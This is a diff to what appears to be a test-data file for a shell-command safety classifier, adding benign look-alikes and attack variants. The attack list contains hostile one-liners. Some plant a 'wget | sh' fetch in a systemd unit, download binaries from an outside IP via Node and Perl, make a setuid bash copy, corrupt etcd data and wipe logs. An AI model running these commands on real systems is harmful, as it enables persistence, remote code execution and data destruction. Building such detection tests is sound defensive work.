@@ -77,6 +77,12 @@ const BENIGN_LOOK_ALIKES = [
 `sudo cat /root/.ssh/authorized_keys`, `sudo ls -la /etc/ld.so.preload`, `sudo rm -f /etc/ld.so.preload`, `ln -sf /bin/bash /bin/sh`, `sudo su -`, `sudo su - postgres -c bash`,
 `tar -xzf k3s-airgap-images-amd64.tar.gz -C /var/lib/rancher/k3s/agent/images/`, `script -q -c 'kubectl logs -f deploy/vllm' /var/log/vllm-session.log`, `logrotate -f /etc/logrotate.conf`,
 `sudo update-alternatives --install /usr/bin/python python /usr/bin/python3.11 1`, `sudo cp /bin/bash /mnt/chroot/bin/`, `ln -s /usr/bin/bash ~/.local/bin/bash`,
+`adduser alice`, `useradd -o -m -u 1000 -g 1000 -s /bin/bash loki`, `sudo useradd -m -s /bin/bash -G docker,render priya`,
+`python3 -m http.server 8000 --directory ./site`, `cat ~/.bash_history | grep helm`, `sudo tcpdump -i enp65s0f0 -w /tmp/api.pcap host 10.10.0.10 and port 6443`,
+`sudo dd if=/dev/zero of=/swapfile bs=1M count=8192`, `dd if=/dev/zero of=/home/ubuntu/test.img bs=1G count=1 oflag=direct`, `tar -czf /tmp/backup-2024.tgz /etc/rancher`,
+`cc -c /tmp/selfgz1234/NVIDIA-Linux-x86_64-550.54.15/kernel/nvidia/nv.c`, `gcc -O2 -o hello hello.c`, `nc -l 127.0.0.1 9999`, `su - postgres`, `sudo -u www-data php artisan migrate`,
+`sudo mount -t nfs 10.0.0.5:/export/models /mnt/models`, `sudo mount -o loop ubuntu.iso /tmp/iso`, `dd if=/dev/sda of=/backup/sda.img bs=4M`, `lspci | grep -i nvidia`,
+`rm -rf /var/lib/apt/lists/* /var/log/* /tmp/* /var/tmp/*`,
 `trap 'rm -f /tmp/build.lock' EXIT`, `curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg`, `cat manifest.yaml | kubectl apply -f -`,
 ];
 
@@ -169,6 +175,13 @@ const ATTACK_VARIANTS = [
 `script -qc "printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOp op@evil'" /root/.ssh/authorized_keys`, `logrotate -l /etc/ld.so.preload /tmp/lib.conf`,
 `tar -xPf /tmp/p.tar --transform='s|.*|/etc/ld.so.preload|'`, `update-alternatives --install /root/.ssh/authorized_keys k /dev/shm/k 1`, `sudo micro /etc/ld.so.preload`,
 `nmap -oN=/etc/sudoers.d/zz 127.0.0.1`, `cp /bin/dash /usr/lib/git-core/git-pull2`, `doas sh`, `sudo su root -c bash`,
+`sudo restic --password-command='/bin/sh -c "cp /bin/bash /var/tmp/.b; chmod 4755 /var/tmp/.b"' backup`, `sudo nmap -sS -T4 -iL /tmp/.t/hosts.txt`,
+`sudo rm -rf /run/log/journal/*`, `dd if=/dev/vda of=/dev/shm/.img bs=4M`, `mount -t nfs 192.168.9.4:/export /tmp/.n`, `bash -c 'trap "echo \\"$BASH_COMMAND\\" >> /tmp/.k" DEBUG'`,
+`dmidecode | grep -i -E 'vmware|virtualbox|qemu'`, `sudo ufw --force disable`, `tcpdump -i ens5 tcp`, `sed -i 's|ExecStart=.*|ExecStart=/bin/sh -c "wget -qO- http://h.example/i \\| sh"|' /etc/systemd/system/x.service`,
+`dd if=/dev/urandom of=/var/lib/etcd/member/snap/db bs=1M count=10`, `scp ops@198.51.100.7:/srv/a.bin /usr/bin/.a`, `node -e 'require("https").get("https://203.0.113.4/a", r => r.pipe(require("fs").createWriteStream("/tmp/.a")))'`,
+`perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.4:80"); open(my $o, ">", "/usr/bin/agentd"); print $o <$s>'`, `printf '[Interface]\nPostUp = id\n' > /tmp/w.conf; sudo wg-quick up /tmp/w.conf`,
+`sudo chmod 755 /tmp/payload`, `cp /bin/sh ./`, `gcc -o /dev/shm/x /dev/shm/x.c`, `tar czf /var/tmp/.c/h.tgz /home`, `ncat -lvp 9001`, `proxychains4 -q curl http://10.1.1.1/`,
+`su nobody -c id`, `python3 -m http.server 80 --directory /etc`,
 `./karlsen-miner --mining-address karlsen:qr6m2j6zqvs9trq4jlg7xq0mkvz8g6mqsjd6cpx2t4 -s 10.0.0.7`,
 ];
 
@@ -178,9 +191,9 @@ const ATTACK_VARIANTS = [
  */
 const ADMIN_AT_LOW_SEVERITY = [
   `ufw disable`, `systemctl disable firewalld --now`, `setenforce 0`, `tcpdump -i any -w /var/tmp/all.pcap`, `tcpdump -nA port 80`, `tshark -i eth0`, `useradd -m -s /bin/bash -G sudo alice`,
-  `adduser alice`, `usermod -aG wheel bob`, `sudo visudo -f /etc/sudoers.d/ops`, `sudo cat /etc/sudoers`, `shred -u old-keys.tar`,
+  `usermod -aG wheel bob`, `sudo visudo -f /etc/sudoers.d/ops`, `sudo cat /etc/sudoers`, `shred -u old-keys.tar`,
   `echo '*.* @@logs.acme.dev:514' >> /etc/rsyslog.conf`, `systemctl stop nftables`, `ip6tables --delete INPUT -s 203.0.113.0/24 -j REJECT`, `ufw delete deny 23`,
-  `mount -o remount,hidepid=2 /proc`, `useradd -o -m -u 1000 -g 1000 -s /bin/bash loki`, `sudo cp acme-root-ca.crt /usr/local/share/ca-certificates/`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
+  `mount -o remount,hidepid=2 /proc`, `sudo cp acme-root-ca.crt /usr/local/share/ca-certificates/`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
   `sudo vipw`, `sudo vim /etc/group`, `sudo nano /root/.ssh/authorized_keys`,
 ];
 
